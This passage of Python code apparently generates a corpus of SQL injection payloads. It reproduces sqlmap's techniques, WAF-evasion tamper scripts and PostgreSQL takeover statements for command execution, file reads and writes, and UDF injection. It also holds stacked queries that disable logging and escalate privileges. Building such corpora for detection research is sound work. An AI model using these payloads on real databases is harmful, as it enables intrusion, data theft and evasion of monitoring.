    o = Opts(r)
    D1, D2 = o.s(marker(r)), o.s(marker(r))
    if vector:
        INF, sw = sqlmap_inference(r, o)
        Q, qsw = sqlmap_query(r, o)
        if not Q.startswith("("):
            Q = "(SELECT %s)" % o.cast(Q)
        tag = ":" + sw
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 5 + ["%d=%d" % (R1, R2), "%d>%d" % (max(R1, R2) + 1, min(R1, R2))])
        Q = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = ":detection"
    H, SL, CW, HQ = sqlmap_delays(R, T, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    GS = "GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END)" % (R, R, INF)
    out = [
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT)", "generic", "cond", 1, "OR NOT %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 2,
         "OR %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "OR boolean-based blind - WHERE or HAVING clause (comment)", "generic", "cond", 2, "OR %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "Boolean-based blind - Parameter replace (DUAL)", "generic", "repl", 3,
         "(CASE WHEN (%s) THEN %d ELSE %d*(SELECT %d FROM DUAL UNION SELECT %d FROM DUAL) END)" % (INF, R, R1, R1, R2), False),
        (B, "Boolean-based blind - Parameter replace (DUAL - original value)", "generic", "repl", 3,
         "(CASE WHEN (%s) THEN [ORIGVALUE] ELSE %d*(SELECT %d FROM DUAL UNION SELECT %d FROM DUAL) END)" % (INF, R1, R1, R2), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (original value)", PG, "repl", 3,
         "(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Parameter replace (GENERATE_SERIES - original value)", PG, "repl", 3,
         "(SELECT [ORIGVALUE] FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause (original value)", PG, "order", 1,
         ",(SELECT (CASE WHEN (%s) THEN [ORIGVALUE] ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - ORDER BY clause (GENERATE_SERIES - original value)", PG, "order", 1,
         ",(SELECT [ORIGVALUE] FROM %s LIMIT 1)" % GS, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries (GENERATE_SERIES)", PG, "stack", 1, ";SELECT * FROM %s LIMIT 1" % GS, True),
        (B, "PostgreSQL AND boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 1,
         "AND (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(S)), False),
        (TB, "PostgreSQL AND time-based blind (heavy query - comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL OR time-based blind (heavy query)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL > 8.1 AND time-based blind", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL > 8.1 OR time-based blind (comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL time-based blind - Parameter replace (heavy query)", PG, "repl", 3, CW(HQ), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",%s" % CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % CW(SL), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace", PG, "repl", 3, "(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause (GENERATE_SERIES)", PG, "order", 1,
         ",(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%d=%d) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, R1, R1, D2), False),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (SQ, "PostgreSQL stacked queries (heavy query)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), False),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % T, False),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % T), True),
        (SQ, "PostgreSQL > 8.1 stacked queries", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % T), False),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, Q, D2), False),
        (IQ, "Generic inline queries", "generic", "repl", 3, "(SELECT CONCAT(CONCAT(%s,(%s)),%s))" % (D1, Q, D2), False),
    ]
    if r.random() < 0.08:
        m1, m2 = marker(r), marker(r)
        out += [
            (EB, "MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)", "MySQL", "cond", 1,
             "AND (SELECT %d FROM(SELECT COUNT(*),CONCAT(0x%s,(SELECT (ELT(%d=%d,1))),0x%s,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)"
             % (R, m1.encode().hex(), R1, R1, m2.encode().hex()), False),
            (EB, "Microsoft SQL Server/Sybase AND error-based - WHERE or HAVING clause (IN)", "Microsoft SQL Server", "cond", 1,
             "AND %d IN (SELECT (CHAR(%s)+(SELECT (CASE WHEN (%d=%d) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(%s)))"
             % (R, ")+CHAR(".join(str(ord(c)) for c in m1), R1, R1, ")+CHAR(".join(str(ord(c)) for c in m2)), False),
            (TB, "Oracle AND time-based blind", "Oracle", "cond", 1, "AND %d=DBMS_PIPE.RECEIVE_MESSAGE(CHR(%d)||CHR(%d)||CHR(%d)||CHR(%d),%d)" % (R, *[ord(c) for c in S[:4]], T), False),
            (TB, "SQLite > 2.0 AND time-based blind (heavy query)", "SQLite", "cond", 1, "AND %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (R, T), False),
            (B, "MySQL RLIKE boolean-based blind - WHERE, HAVING, ORDER BY or GROUP BY clause", "MySQL", "cond", 1, "RLIKE (SELECT (CASE WHEN (%s) THEN 0x%s ELSE 0x28 END))" % (INF, S.encode().hex()), False)]
    return [(f, t, d, p, w, pl, c, tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """Statements sqlmap stacks for its takeover switches on PostgreSQL, as it spells them."""
    oid = r.randint(10000, 65000)
    lib = "/tmp/lib%s.so" % rword(r, 6)
    cmd, f = r.choice(CMDS), r.choice(FILES)
    tbl = "sqlmap" + r.choice(["output", "file", "filehex"]) + ("" if r.random() < 0.7 else str(r.randint(1, 9)))
    return r.choice([
        ("--os-cmd (table)", ";DROP TABLE IF EXISTS %s;CREATE TABLE %s(data text)" % (tbl, tbl)),
        ("--os-cmd (COPY FROM PROGRAM, hex)", ";COPY %s FROM PROGRAM %s" % (tbl, chrs(cmd))),
        ("--os-cmd (read output)", ";SELECT COALESCE(CAST(data AS VARCHAR(10000))::text,(CHR(32))) FROM %s OFFSET %d LIMIT 1" % (tbl, r.randint(0, 3))),
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (chrs(f), oid)),
        ("--file-read (pageno)", ";SELECT COUNT(DISTINCT(pageno)) FROM pg_largeobject WHERE loid=%d" % oid),
        ("--file-write (delete)", ";DELETE FROM pg_largeobject WHERE loid=%d" % oid),
        ("--file-write (insert page)", ";INSERT INTO pg_largeobject VALUES (%d,%d,DECODE((CHR(90)||CHR(109)||CHR(57)||CHR(118)),(CHR(98)||CHR(97)||CHR(115)||CHR(101)||CHR(54)||CHR(52))))" % (oid, r.randint(0, 3))),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, chrs(lib))),
        ("--udf-inject (sys_exec)", ";CREATE OR REPLACE FUNCTION sys_exec(text) RETURNS int4 AS '%s','sys_exec' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % lib),
        ("--os-cmd (sys_eval)", ";SELECT sys_eval(%s)" % chrs(cmd)),
        ("--cleanup (udf)", ";DROP FUNCTION IF EXISTS sys_eval(text);DROP FUNCTION IF EXISTS sys_exec(text)"),
        ("--file-write (lo_unlink)", ";SELECT lo_unlink(%d)" % oid)])


def sqlmap_union(r, vector):
    """(title, dbms, payload, where): UNION query technique requests."""
    n, pos, filler, cols, kw, rng, where = union_request(r, 15, 3, 3, 0.45)
    x = r.randrange(10)
    if x == 0:
        return "Generic UNION query - ORDER BY technique", "generic", "ORDER BY %d" % r.randint(1, 25), 1
    if x == 1:
        return "Generic UNION query - %s columns (NULL, FROM)" % rng, "generic", "%s %s FROM pg_user" % (kw, ",".join(["NULL"] * n)), where
    m1, m2, m3 = chrs(marker(r)), chrs(marker(r)), chrs(marker(r))
    if x == 2 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns (marker)" % ("NULL" if filler == "NULL" else "random number", rng), PG, "%s %s" % (kw, ",".join(cols)), where
    if x == 3:
        cols[pos] = "%s||COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))||%s" % (m1, r.choice(["SESSION_USER", "CURRENT_DATABASE()", "INET_SERVER_PORT()", "PG_BACKEND_PID()"]), m2)
        return "Generic UNION query - %s columns (fingerprint)" % rng, PG, "%s %s" % (kw, ",".join(cols)), where
    if x == 4:
        cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in ["usename", "usesuper"]], m1, m3, m2)
        return "Generic UNION query - %s columns (--privileges)" % rng, PG, "%s %s FROM pg_user" % (kw, ",".join(cols)), where
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_database", ["datname"]), ("pg_stat_activity", ["query"]),
                    ("pg_tables", ["tablename"]), ("information_schema.columns", ["column_name", "data_type"])]
                   + [("public." + t, c) for t, c in sorted(DUMP_TABLES.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", "", " OFFSET %d LIMIT 1" % r.randint(0, 40), " ORDER BY 1 OFFSET %d LIMIT 1" % r.randint(0, 9)])
    return "Generic UNION query - %s columns (dump %s)" % (rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    return r.choice(["-- " + rstr(r)] * 12 + ["--", "--", "-- -", "#"])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one sqlmap request: value, boundary prefix,
    payload, boundary suffix (mostly a boundary that fits the slot)."""
    typ, cl = si["type"], si["closers"]
    if "[ORIGVALUE]" in payload:
        payload = payload.replace("[ORIGVALUE]", orig if typ in ("n", "list") else "1")
    if where == 2 and typ not in ("col", "dir", "ident"):
        orig = "-%d" % randnum(r)
    k = (si["cond_k"] if place == "cond" else len(cl)) if r.random() < 0.8 else r.choice([0, 1, 2, 3])
    S, R = rstr(r), randnum(r)
    cmt = sqlmap_comment(r)
    if typ in ("q", "e", "qi", "d"):
        qc = '"' if typ == "qi" else "'"
        if place == "order":
            return None
        if place == "repl":
            if typ in ("qi", "d") or r.random() < 0.4:
                return payload                  # stays inside the literal; dropped later
            return qc + "||" + payload + "||" + qc
        lk = si["like"] and r.random() < 0.6
        pre = orig + ("%" if lk else "") + qc + ")" * k
        if place == "stack":
            return pre + payload + (cmt if need_comment or r.random() < 0.7 else "")
        if place == "union":
            return pre + " " + payload + cmt
        x = r.random()
        if x < 0.1 and typ in ("q", "e") and place == "cond" and payload.startswith("AND "):
            # the boundary for INSERT/UPDATE values: '||(SELECT 'x' WHERE n=n AND ...)||'
            return orig + "'||(SELECT '%s' WHERE %d=%d %s)||'" % (S, R, R, payload)
        if x < 0.15 and place == "cond":
            # the pre-WHERE boundaries: ') AS x WHERE n=n AND ...
            return orig + qc + ")" * k + " AS %s WHERE %d=%d %s%s" % (S, R, R, payload, cmt)
        body = pre + " " + payload
        if need_comment:
            return body + cmt
        y = r.random()
        if lk and y < 0.5:
            return body + " AND " + "(" * k + "%s%%%s=%s" % (qc, qc, qc)
        if y < 0.4:
            return body + " AND " + "(" * k + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.55:
            return body + " AND " + "(" * k + "%s%s%s LIKE %s%s" % (qc, S, qc, qc, S)
        if y < 0.65 and typ in ("q", "e"):
            return body + " OR " + "(" * k + "%s%s%s=%s%s" % (qc, S, qc, qc, rstr(r))
        return body + cmt
    if typ in ("n", "list"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        pre = orig + ")" * k
        if place == "stack":
            return pre + payload + (cmt if need_comment or k or r.random() < 0.5 else "")
        if place == "union":
            return pre + " " + payload + cmt
        if r.random() < 0.05 and place == "cond":
            return orig + ")" * k + " AS %s WHERE %d=%d %s%s" % (S, R, R, payload, cmt)
        body = pre + " " + payload
        if need_comment:
            return body + cmt
        if k and r.random() < 0.75:
            return body + " AND " + "(" * k + "%d=%d" % (R, R)
        if k or r.random() < 0.3:
            return body + cmt
        return body
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.3 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.6 else "")
        if place == "cond" and r.random() < 0.25:
            return orig + " " + payload + cmt
        return None
    if typ == "ident":
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
        if place == "union" and si["lead"] == "TABLE":
            return orig + " " + payload + cmt
        return None
    return None


SQL_KEYWORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT
OFFSET INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR DUAL
STRICT IF REPLACE""".split())
SQL_FUNCS = set("ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES CONCAT VERSION CURRENT_USER LO_IMPORT LO_EXPORT DECODE".split())


def tamper(r, name, s, typ):
    """sqlmap tamper scripts, as they rewrite a payload (PostgreSQL does not always follow)."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "versionedkeywords":
        return outside(lambda t, i, n: re.sub(r"\b[A-Za-z_]+\b(?!\s*\()", lambda m: "/*!%s*/" % m.group(0) if m.group(0).upper() in SQL_KEYWORDS else m.group(0), t))
    if name == "halfversionedmorekeywords":
        return outside(lambda t, i, n: re.sub(r"(?<=\s)([A-Za-z_]+)\b", lambda m: "/*!0%s" % m.group(1) if m.group(1).upper() in SQL_KEYWORDS else m.group(1), t))
    if name in ("modsecurityversioned", "modsecurityzeroversioned"):
        ver = "30%03d" % r.randint(0, 999) if name == "modsecurityversioned" else "00000"
        pos, j, cut = 0, None, len(s)
        for t, e in segments(s, typ):
            if j is None and e and " " in t:
                j = pos + t.find(" ")
            elif j is not None and not e and t.startswith(("--", "/*")):
                cut = pos
                break
            if j is not None and e and "#" in t[max(0, j - pos):]:
                cut = pos + t.index("#", max(0, j - pos))
                break
            pos += len(t)
        if j is None:
            return s
        return s[:j] + " /*!%s%s*/" % (ver, s[j + 1:cut]) + s[cut:]
    if name == "space2mysqlblank":
        return outside(lambda t, i, n: re.sub(" ", lambda m: r.choice(["\t", "\n", "\f", "\r", "\v", "\u00a0"]), t))
    if name == "space2hash":
        return outside(lambda t, i, n: re.sub(" ", lambda m: "#%s\n" % rstr(r, r.randint(3, 7)), t))
    if name == "space2morehash":
        return outside(lambda t, i, n: re.sub(r"\b([A-Z_]+)\(", lambda m: "%s#%s\n(" % (m.group(1), rstr(r, 4)) if m.group(1) in SQL_FUNCS else m.group(0),
                                              re.sub(" ", lambda m: "#%s\n" % rstr(r, r.randint(3, 7)), t)))
    if name == "unmagicquotes":
        j = s.find("'")
        if j < 0:
            return s
        v = s[:j] + "\ufffd'" + s[j + 1:]
        v2 = re.sub(r"(?i)\s*(AND|OR)[\s(]+([^\s]+)\s*(=|LIKE)\s*\2$", "", v)
        if v2 != v:
            return v2 + "-- -"
        return v if any(c in v for c in ("#", "--", "/*")) else v + "-- -"
    if name == "concat2concatws":
        return s.replace("CONCAT(", "CONCAT_WS(MID(CHAR(0),0,0),")
    if name == "between":
        return outside(lambda t, i, n: re.sub(r"\b(\d+)=(\d+)\b", lambda m: "%s BETWEEN %s AND %s" % (m.group(1), m.group(2), m.group(2)),
                                              re.sub(r"\s*>\s*(\d+)", lambda m: " NOT BETWEEN 0 AND %s" % m.group(1), t)))
    if name == "randomcase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in m.group(0))
                                              if m.group(0).upper() in SQL_KEYWORDS | SQL_FUNCS else m.group(0), t))
    if name == "space2comment":
        return outside(lambda t, i, n: t.replace(" ", "/**/"))
    if name == "equaltolike":
        return outside(lambda t, i, n: re.sub(r"(?<=[\w)])\s*=\s*(?=[\w(])", " LIKE ", t))
    if name == "space2randomblank":
        return outside(lambda t, i, n: re.sub(" ", lambda m: r.choice(["\t", "\n", "\r", "\f"]), t))
    if name == "commentbeforeparentheses":
        return outside(lambda t, i, n: re.sub(r"\b(\w+)\(", r"\1/**/(", t))
    raise KeyError(name)


# single scripts none of the earlier corpora used, and chains of scripts (--tamper=a,b,c)
TAMPERS = ["versionedkeywords", "halfversionedmorekeywords", "modsecurityversioned", "modsecurityzeroversioned", "space2mysqlblank", "space2hash",
           "space2morehash", "unmagicquotes", "concat2concatws", "between,randomcase,space2comment", "space2comment,randomcase",
           "equaltolike,space2randomblank", "commentbeforeparentheses,randomcase", "between,space2randomblank", "randomcase,versionedkeywords"]


def union_fits(si):
    """Whether sqlmap's UNION technique is tried on the slot: in a query (a TABLE statement too), not in ORDER BY, LIMIT or VALUES."""
    if not (si["select"] or si["lead"] == "TABLE") or si["in_order"] or si["in_limit"] or si["in_values"] or si["type"] in ("col", "dir"):
        return False
    return si["type"] != "ident" or si["lead"] == "TABLE"


SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.8), vector_share=0.62, takeover_share=0.22, tamper_share=0.13)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | open (a clause whose last string the
# template's own quote closes) | stack (statements after ;) | union (a UNION
# tail) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression)
def secs(r):
    return r.choice([4, 5, 6, 8, 10, 12, 15, 30])


DO_TAGS = ["$fn$", "$x1$", "$π$", "$_b_$", "$ŋ$", "$Q9$", "$BODY$", "$ä$", "$do$", "$z$", "$$"]
OPEN_TAGS = ["$k$", "$q$", "$v$", "$s$", "$t1$", "$Δ$", "$$", "$lit$"]


def hand_cores(r, fam):
    a, b = r.randint(2, 90), r.randint(91, 990)
    w = rword(r, r.randint(3, 7))
    s = secs(r)
    t, u, p, who = loot(r)
    e = target(r)
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    key = r.randint(1000, 99999)
    sq = lambda v: v.replace("'", "''")
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_jsonb_has_key", "OR '{\"%s\": %d}'::jsonb ? '%s'" % (w, a, w)), ("or_jsonb_contains_array", "OR '{\"k\": [%d, %d]}'::jsonb @> '{\"k\": [%d]}'" % (a, b, b)),
            ("or_jsonb_any_key", "OR jsonb_build_object('%s', %d) ?| ARRAY['%s', 'x']" % (w, a, w)), ("or_jsonb_all_keys", "OR '{\"p\": 1, \"q\": 2}'::jsonb ?& '{p,q}'"),
            ("or_jsonpath_predicate", "OR '[%d, %d]'::jsonb @@ '$[*] > %d'" % (a, b, a)), ("or_comparison_is_true", "OR (%d < %d) IS TRUE" % (a, b)),
            ("or_false_is_not_true", "OR (%d = %d) IS NOT TRUE" % (a, b)), ("or_literal_is_not_null", "OR '%s' IS NOT NULL" % w),
            ("or_null_distinct_from", "OR NULL IS DISTINCT FROM %d" % a), ("or_eq_any_series", "OR %d = ANY(SELECT generate_series(1, %d))" % (a, b)),
            ("or_lt_all_array", "OR %d < ALL(ARRAY[%d, %d])" % (a, b, b + 1)), ("or_range_adjacent", "OR int4range(1, %d) -|- int4range(%d, %d)" % (a, a, b)),
            ("or_numrange_overlap", "OR numrange(%d, %d) && numrange(%d, %d)" % (a, b, a + 1, b + 1)), ("or_tstzrange_now", "OR tstzrange(now() - interval '1 day', NULL) @> now()"),
            ("or_regexp_like_pg15", "OR regexp_like('%s', '^%s')" % (w, w[:2])), ("or_starts_with_fn", "OR starts_with('%s', '%s')" % (w, w[0])),
            ("or_between_symmetric_rev", "OR %d BETWEEN SYMMETRIC %d AND 1" % (a, b)), ("or_text_to_bool", "OR '%s'::boolean" % r.choice(["yes", "on", "t", "1"])),
            ("or_num_nonnulls_two", "OR num_nonnulls(1, NULL, 2) = 2"), ("or_array_overlap_literal", "OR ARRAY[%d, %d] && ARRAY[%d]" % (a, b, b)),
            ("or_in_values_list", "OR %d IN (VALUES (%d), (%d))" % (a, b, a)), ("or_simple_case_bool", "OR CASE %d WHEN %d THEN true ELSE false END" % (a, a)),
            ("or_exists_values_row", "OR EXISTS (VALUES (%d))" % a), ("or_point_in_box", "OR point(1, 1) <@ box '((0,0),(2,2))'"),
            ("or_cidr_contains_inet", "OR '10.%d.0.0/16'::cidr >>= '10.%d.7.9'::inet" % (a, a)), ("or_row_lt_row", "OR ROW(%d, %d) < ROW(%d, %d)" % (a, b, a, b + 1)),
            ("or_md5_length_32", "OR length(md5('%s')) = 32" % w), ("or_bit_xor", "OR (B'101' # B'011') = B'110'"), ("or_date_after_epoch", "OR current_date > date '2000-01-01'"),
            ("or_cardinality_three", "OR cardinality(ARRAY[1, 2, 3]) = 3"), ("or_like_all_patterns", "OR '%s' LIKE ALL (ARRAY['%s%%', '%%'])" % (w, w[0])),
            ("or_ilike_any_upper", "OR '%s' ILIKE ANY (ARRAY['%s'])" % (w.upper(), w)), ("or_nil_uuid_not_null", "OR '00000000-0000-0000-0000-000000000000'::uuid IS NOT NULL"),
            ("or_phrase_match", "OR to_tsvector('simple', '%s %s') @@ phraseto_tsquery('simple', '%s %s')" % (w, w[::-1], w, w[::-1])),
            ("or_regexp_count_pos", "OR regexp_count('%s', '%s') > 0" % (w, w[-1])), ("or_any_array_literal_text", "OR '%s' = ANY('{%s,zz}'::text[])" % (w, w))]] + [
            (n, "open", c, PG) for n, c in [
                ("open_caret_prefix", ("OR '%s' ^@ " % w, "'%s" % w[0])), ("open_distinct_from", ("OR 'x%s' IS DISTINCT FROM " % w, "'y%s" % w)),
                ("open_regex_match", ("OR '%s' ~ " % w, "'^%s" % w[:2])), ("open_jsonb_key", ("OR '{\"%s\": 1}'::jsonb ? " % w, "'%s" % w)),
                ("open_not_like", ("OR '%s' NOT LIKE " % w, "'zz%")), ("open_collate_eq", ("OR '%s' COLLATE \"C\" = " % w, "'%s" % w)),
                ("open_gt_empty", ("OR '%s' > " % w, "'"))]]
    if fam == "union":
        n = r.randint(1, 7)
        pos = r.randrange(n)
        arms = [("stat_user_functions", "funcname||':'||calls", " FROM pg_stat_user_functions"), ("triggerdefs", "pg_get_triggerdef(oid)", " FROM pg_trigger WHERE NOT tgisinternal"),
                ("event_triggers", "evtname||' '||evtevent", " FROM pg_event_trigger"), ("publications", "pubname||' '||puballtables::text", " FROM pg_publication"),
                ("open_cursors", "name||': '||statement", " FROM pg_cursors"), ("control_system", "system_identifier::text", " FROM pg_control_system()"),
                ("control_checkpoint", "redo_wal_file", " FROM pg_control_checkpoint()"), ("current_logfile", "pg_current_logfile()", ""),
                ("stat_archiver", "coalesce(last_archived_wal,'-')", " FROM pg_stat_archiver"), ("stat_gssapi", "coalesce(principal,'-')", " FROM pg_stat_gssapi"),
                ("tablespace_paths", "spcname||'='||pg_tablespace_location(oid)", " FROM pg_tablespace"), ("parameter_acl", "parname||' '||coalesce(paracl::text,'')", " FROM pg_parameter_acl"),
                ("default_acl", "defaclacl::text", " FROM pg_default_acl"), ("shared_descriptions", "description", " FROM pg_shdescription"),
                ("fdw_options", "fdwname||' '||coalesce(array_to_string(fdwoptions,','),'')", " FROM pg_foreign_data_wrapper"),
                ("foreign_table_options", "ftrelid::regclass::text||' '||array_to_string(ftoptions,',')", " FROM pg_foreign_table"),
                ("replication_origins", "roname", " FROM pg_replication_origin"), ("all_file_settings", "sourcefile||':'||name||'='||setting", " FROM pg_show_all_file_settings()"),
                ("stat_get_activity", "query", " FROM pg_stat_get_activity(NULL)"), ("group_lists", "groname||' '||array_to_string(grolist,',')", " FROM pg_group"),
                ("secdef_procs", "proname||' '||proowner::regrole::text", " FROM pg_proc WHERE prosecdef"), ("loot_concat_ws", "concat_ws(':',%s,%s)" % (u, p), " FROM %s" % t),
                ("recovery_prefetch", "prefetch::text", " FROM pg_stat_recovery_prefetch"), ("subscription_stats", "subname", " FROM pg_stat_subscription_stats")]
        name, ex, frm = r.choice(arms)
        style = r.randrange(6)
        if style == 0:
            return [("union_distinct_" + name, "union", "UNION DISTINCT SELECT %s%s" % (nulls(n, pos, ex), frm), PG)]
        if style == 1:
            cols = ["NULL::text"] * n
            cols[pos] = ex
            return [("union_typed_nulls_" + name, "union", "UNION ALL SELECT %s%s" % (",".join(cols), frm), PG)]
        if style == 2 and frm:
            return [("union_from_subselect_" + name, "union", "UNION ALL SELECT * FROM (SELECT %s%s) x%d" % (nulls(n, pos, ex), frm, r.randint(0, 9)), PG)]
        if style == 3:
            return [("union_limit_offset_" + name, "union", "UNION SELECT %s%s LIMIT 1 OFFSET %d" % (nulls(n, pos, ex), frm, r.randint(0, 5)), PG)]
        kw = r.choice(["UNION ALL SELECT", "union all select", "UNION\tALL\tSELECT", "UNION ALL\n SELECT", "UNION  SELECT"])
        return [("union_arm_" + name, "union", "%s %s%s" % (kw, nulls(n, pos, ex), frm), PG)]
    if fam == "stacked":
        return [(n, "stack", c, PG) for n, c in [
            ("alter_system_session_preload", "ALTER SYSTEM SET session_preload_libraries = '%s'; SELECT pg_reload_conf()" % nm),
            ("alter_system_quiet_logs", "ALTER SYSTEM SET log_statement = 'none'; ALTER SYSTEM SET log_min_error_statement = 'panic'; SELECT pg_reload_conf()"),
            ("alter_system_hba_path", "ALTER SYSTEM SET hba_file = '/tmp/%s.conf'" % nm), ("alter_system_reset_all", "ALTER SYSTEM RESET ALL; SELECT pg_reload_conf()"),
            ("create_extension_dblink_catalog", "CREATE EXTENSION IF NOT EXISTS dblink SCHEMA pg_catalog"),
            ("create_extension_plperlu", "CREATE EXTENSION IF NOT EXISTS plperlu"), ("create_extension_adminpack", "CREATE EXTENSION adminpack"),
            ("alter_role_in_database", "ALTER ROLE %s IN DATABASE %s SET log_statement = 'none'" % (r.choice(["pyro_app", "wordpress", "sugar_rw"]), r.choice(["postgres", "app"]))),
            ("alter_role_createrole_inherit", "ALTER ROLE CURRENT_USER CREATEROLE CREATEDB INHERIT"),
            ("create_user_in_read_all", "CREATE USER %s IN ROLE pg_read_all_data, pg_write_all_data PASSWORD '%s'" % (nm, rword(r, 10))),
            ("grant_read_all_settings", "GRANT pg_read_all_settings, pg_read_all_stats TO CURRENT_USER"),
            ("grant_set_on_parameter", "GRANT SET ON PARAMETER %s TO PUBLIC" % r.choice(["log_statement", "session_replication_role", "lc_messages"])),
            ("grant_alter_system_parameter", "GRANT ALTER SYSTEM ON PARAMETER shared_preload_libraries TO %s" % r.choice(["pyro_app", "wordpress", "PUBLIC"])),
            ("publication_all_tables", "CREATE PUBLICATION %s FOR ALL TABLES" % nm), ("replica_role_delete", "SET session_replication_role = replica; DELETE FROM %s" % t),
